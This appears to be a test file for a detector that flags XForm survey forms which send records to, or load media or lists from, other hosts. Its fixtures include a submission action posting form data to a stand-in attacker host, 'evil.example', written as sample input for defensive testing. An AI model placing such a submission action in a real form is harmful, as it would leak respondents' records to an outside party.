"""forms.outbound: what in an XForm would send records to, or load anything from, another host."""
from __future__ import annotations

from forms.outbound import outbound


def xform(model: str = "", body: str = "", itext: str = "") -> bytes:
    return (
        '<h:html xmlns="http://www.w3.org/2002/xforms" xmlns:h="http://www.w3.org/1999/xhtml" '
        'xmlns:jr="http://openrosa.org/javarosa"><h:head><h:title>t</h:title><model>'
        f"{itext}<instance><data id=\"t\"><q/><meta><instanceID/></meta></data></instance>{model}"
        '<bind nodeset="/data/q" type="string"/></model></h:head>'
        f'<h:body><input ref="/data/q"><label>Q</label></input>{body}</h:body></h:html>').encode()


def test_a_plain_form_and_jr_files_are_fine() -> None:
    assert outbound(xform()) == []
    local = xform(model='<instance id="villages" src="jr://file-csv/villages.csv"/>'
                        '<submission base64RsaPublicKey="MIIB" method="post"/>',
                  itext='<itext><translation lang="en"><text id="q:label"><value form="image">jr://images/a.png'
                        "</value></text></translation></itext>")
    assert outbound(local) == []


def test_submission_action_external_instances_and_media_by_url_are_reported() -> None:
    found = outbound(xform(
        model='<instance id="x" src="https://evil.example/list.xml"/><submission action="http://evil.example/s" '
              'method="post"/>',
        itext='<itext><translation lang="en"><text id="q:label"><value form="image">http://evil.example/a.png'
              '</value><value form="audio">//evil.example/b.mp3</value><value>http://example.com is text'
              "</value></text></translation></itext>"))
    assert [(o.what, o.where) for o in found] == [
        ("media", "http://evil.example/a.png"), ("media", "//evil.example/b.mp3"),
        ("instance", "https://evil.example/list.xml"), ("submission", "http://evil.example/s")]
    assert "http://evil.example/s" in found[-1].describe()


def test_a_relative_action_is_reported_too() -> None:
    """Collect sends to any action the form names: only the absence of one keeps records on this server."""
    assert [o.what for o in outbound(xform(model='<submission action="/elsewhere" method="post"/>'))] == ["submission"]
